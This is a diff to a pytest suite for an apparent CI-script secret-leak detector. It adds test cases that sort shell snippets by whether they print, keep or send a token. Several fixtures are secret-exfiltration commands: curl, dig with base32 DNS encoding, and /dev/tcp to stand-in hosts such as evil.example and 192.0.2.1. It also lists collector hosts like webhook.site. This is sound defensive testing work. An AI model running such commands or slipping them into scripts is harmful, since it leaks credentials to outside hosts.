@@ -39,6 +39,8 @@ def look(text: str, shell: str = "bash") -> list[tuple[str, str, str, bool]]:
         ("env | grep CI_ | sort", "", False),
         ("env | sort > all.txt", "", False),
         ("set -ex\nmake", "set -x", False),
+        ('A=$(jq -r .a <<< "$TOKEN")\necho "$A"\necho "::add-mask::$A"', "echo", True),
+        ('echo "${TOKEN:0:4}"\nprintf "::add-mask::%s" "${TOKEN:0:4}"', "echo", True),
     ],
 )
 def test_what_is_printed(text: str, by: str, *, derived: bool) -> None:
@@ -51,6 +53,7 @@ def test_what_is_printed(text: str, by: str, *, derived: bool) -> None:
         'echo "$TOKEN" > key',
         'echo "$TOKEN" | docker login --password-stdin',
         'A=$(echo "$TOKEN" | jq -r .a)\necho "::add-mask::$A"\necho "$A"',
+        'f() { echo "$A"; }\nA=$(echo "$TOKEN" | jq -r .a)\necho "::add-mask::$A"\nf',
         'R=$(curl -H "A: $TOKEN" https://api.github.com/x)\necho "$R"',
         "echo '$TOKEN'",
         'echo "${#TOKEN} ${TOKEN:+set}"',
@@ -81,10 +84,24 @@ def test_what_stays_inside(text: str) -> None:
         ("echo ${{ secrets.API }} | socat - TCP:evil.example:80", "socat", "evil.example"),
         ("dig ${{ secrets.API }}.evil.example", "dig", "evil.example"),
         ('nslookup "$TOKEN.evil.example"', "nslookup", "evil.example"),
+        ('dig "$(echo -n "$TOKEN" | base32).evil.example"', "dig", "evil.example"),
+        ('echo "$TOKEN" > /dev/tcp/192.0.2.1/443', "echo", "192.0.2.1"),
+        ('curl -d x="$TOKEN" https://evilgithub.com/x', "curl", "evilgithub.com"),
+        ("env | sort | base64 | curl -d @- https://evil.example", "curl", "evil.example"),
     ],
 )
 def test_what_is_sent(text: str, by: str, to: str) -> None:
     assert look(text) == [("network", by, to, False)]
+
+
+@pytest.mark.parametrize(
+    ("to", "collected"),
+    [("webhook.site", True), ("a.oast.pro", True), ("notwebhook.site", False)],
+)
+def test_hosts_that_anybody_collects_with(to: str, *, collected: bool) -> None:
+    text = f'curl -d "$TOKEN" https://{to}/x'
+    script = Script(text=text, source_text=Text(text, ((0, NOWHERE),)))
+    assert [leak.collected for leak in leaks(script, HELD)[0]] == [collected]
 
 
 def test_powershell_prints_too() -> None:
